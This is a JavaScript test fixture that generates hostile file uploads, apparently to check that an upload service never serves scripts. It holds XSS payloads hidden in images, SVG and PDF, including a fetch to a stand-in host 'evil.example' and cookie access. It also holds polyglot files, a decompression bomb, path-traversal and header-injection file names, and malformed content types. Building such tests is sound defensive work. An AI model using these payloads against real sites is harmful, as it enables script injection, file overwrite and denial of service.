import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";

/** What must never be served: a script in any form. Each file contains it with its own number. */
export const canary = (number) => `hostile-mark-${number}-`;
const script = (number) => `<script>fetch("//evil.example/${canary(number)}")</script>`;
const svg = (number) =>
  `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${canary(number)}')">${script(number)}</svg>`;
const html = (number) => `<!doctype html><html><body onload="alert(1)">${script(number)}</body></html>`;
const js = (number) => `/*${canary(number)}*/alert(document.cookie)//`;

const randomImage = (random) =>
  sharp({
    create: {
      width: Math.floor(random.between(2, 90)),
      height: Math.floor(random.between(2, 90)),
      channels: 3,
      background: { r: Math.floor(random.between(0, 255)), g: 90, b: 120 },
    },
  });
const bytes = (...parts) =>
  Buffer.concat(parts.map((part) => (typeof part === "string" ? Buffer.from(part, "latin1") : part)));

function chunk(type, data) {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length);
  head.write(type, 4, "latin1");
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])));
  return Buffer.concat([head, data, sum]);
}

/** A PNG whose header says `width` × `height`, with `real` lines of data; extra chunks go before its end. */
function png(width, height, real, ...more) {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = 1;
  const rows = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * real), { level: 9 });
  return bytes("\x89PNG\r\n\x1a\n", chunk("IHDR", head), ...more, chunk("IDAT", rows), chunk("IEND", Buffer.alloc(0)));
}

/** An archive that decompresses to 64 MB, under any name. */
const createZipBomb = () =>
  bytes("PK\x03\x04\x14\0\0\0\x08\0", deflateSync(Buffer.alloc(64 * 1024 * 1024), { level: 9 }));
const exif = (image, number) =>
  image.withExif({
    IFD0: {
      Copyright: script(number),
      ImageDescription: html(number),
      Artist: `${canary(number)}"><img src=x onerror=alert(1)>`,
    },
  });

/** Each function creates the bytes of one kind of file. */
const CONTENTS = {
  HTML: (number) => bytes(html(number)),
  SVG: (number) => bytes(`<?xml version="1.0"?>${svg(number)}`),
  script: (number) => bytes(js(number)),
  "HTML behind a byte order mark": (number) => bytes("\xef\xbb\xbf", html(number)),
  "HTML behind a PNG's first bytes": (number) => bytes("\x89PNG\r\n\x1a\n", html(number)),
  "HTML behind a JPEG's first bytes": (number) => bytes("\xff\xd8\xff\xe0", html(number)),
  "GIF and script at once": (number) => bytes(`GIF89a=1;${js(number)}`),
  "GIF with HTML after it": async (number, random) => bytes(await randomImage(random).gif().toBuffer(), html(number)),
  "GIF with a comment": async (number, random) => {
    const image = await randomImage(random).gif().toBuffer();
    return bytes(
      image.subarray(0, -1),
      "\x21\xfe",
      String.fromCharCode(Math.min(255, script(number).length)),
      script(number),
      "\0;",
    );
  },
  "JPEG with HTML after it": async (number, random) => bytes(await randomImage(random).jpeg().toBuffer(), html(number)),
  "JPEG with a comment": async (number, random) => {
    const [image, said] = [await randomImage(random).jpeg().toBuffer(), Buffer.from(html(number))];
    return bytes(image.subarray(0, 2), "\xff\xfe", String.fromCharCode(0, said.length + 2), said, image.subarray(2));
  },
  "JPEG with EXIF": (number, random) => exif(randomImage(random).jpeg(), number).toBuffer(),
  "WebP with EXIF": (number, random) => exif(randomImage(random).webp(), number).toBuffer(),
  "WebP with HTML after it": async (number, random) => bytes(await randomImage(random).webp().toBuffer(), html(number)),
  "RIFF that is no WebP": (number) => bytes("RIFF\x40\0\0\0WEBP", html(number)),
  "PNG with text": (number) =>
    png(
      8,
      8,
      8,
      chunk("tEXt", Buffer.from(`Comment\0${script(number)}`)),
      chunk("iTXt", Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${svg(number)}`)),
    ),
  "PNG with HTML after it": async (number, random) => bytes(await randomImage(random).png().toBuffer(), html(number)),
  "PNG with a wrong sum": (number) => {
    const image = png(8, 8, 8, chunk("tEXt", Buffer.from(canary(number))));
    image[image.length - 1] ^= 255;
    return image;
  },
  "PNG of far too many pixels": () => png(60_000, 60_000, 2_000),
  "PNG that says more than it holds": () => png(30_000, 30_000, 10),
  "PNG just under the limit": () => png(7_000, 7_000, 7_000),
  "PNG without a size": () => png(0, 0, 1),
  "cut off JPEG": async (number, random) => {
    const image = exif(randomImage(random).jpeg(), number);
    const whole = await image.toBuffer();
    return whole.subarray(0, Math.floor(whole.length * random.between(0.1, 0.95)));
  },
  "cut off PNG": async (number, random) => {
    const whole = await randomImage(random).png().toBuffer();
    return whole.subarray(0, Math.floor(whole.length * random.between(0.2, 0.95)));
  },
  nothing: () => Buffer.alloc(0),
  "one byte": () => Buffer.from([255]),
  "archive that grows": createZipBomb,
  "PDF with a script": (number) =>
    bytes(
      `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert("${canary(number)}"))>>>>endobj\n${html(number)}\n%%EOF`,
    ),
  "PDF and HTML at once": (number) => bytes(`%PDF-1.4\n<!--\n-->${html(number)}`),
  "PDF behind HTML": (number) => bytes(`${html(number)}%PDF-1.4`),
};

const NAMES = [
  (number) => `picture-${number}.png`,
  () => "index.html",
  () => "picture.svg",
  () => "picture.png.html",
  () => "picture.jpg\0.html",
  () => "../../../app/page.tsx",
  () => "..\\..\\windows\\win.ini",
  () => "/etc/passwd",
  () => "picture\u202egnp.exe",
  () => `${"a".repeat(5_000)}.png`,
  () => "con.png",
  () => ".htaccess",
  () => "",
  () => "%2e%2e%2f%2e%2e%2fx.html",
  () => "picture.png\r\nX-Injected: yes",
  () => 'picture";filename="other.html',
  () => "<img src=x onerror=alert(1)>.png",
  () => "🙂\u0000\u2028.pdf",
  () => "document.pdf",
  () => "a.pdf/../../b.html",
];
const TYPES = [
  "image/png",
  "image/jpeg",
  "text/html",
  "image/svg+xml",
  "application/javascript",
  "text/html; charset=utf-7",
  "application/pdf",
  "",
  "image/png\r\nX-Injected: yes",
  "multipart/form-data",
  "x".repeat(3_000),
  'image/png; name="<script>"',
  "application/xhtml+xml",
  "\0",
];

/** A multipart form with one file, written by hand: no client would send some of these. */
function multipartBody(content, name, type, broken) {
  const boundary = "----hostile";
  const whole = Buffer.concat([
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\n${type ? `Content-Type: ${type}\r\n` : ""}\r\n`,
    ),
    content,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return {
    body: broken ? whole.subarray(0, whole.length - 20) : whole,
    contentType: `multipart/form-data; boundary=${boundary}`,
  };
}

const KINDS = Object.entries(CONTENTS);

/** The number of kinds: this many consecutive numbers contain one of each. */
export const KIND_COUNT = KINDS.length;

/**
 * A hostile file, the same for the same number.
 * @param {number} number
 * @param {ReturnType<import("../harness/seeded-random.ts").seededRandom>} random
 */
export async function hostileFile(number, random) {
  const [kind, make] = KINDS[number % KIND_COUNT];
  const content = await make(number, random);
  const [name, type] = [random.pick(NAMES)(number), random.pick(TYPES)];
  return { kind, content, type, ...multipartBody(content, name, type, random.happens(0.03)) };
}
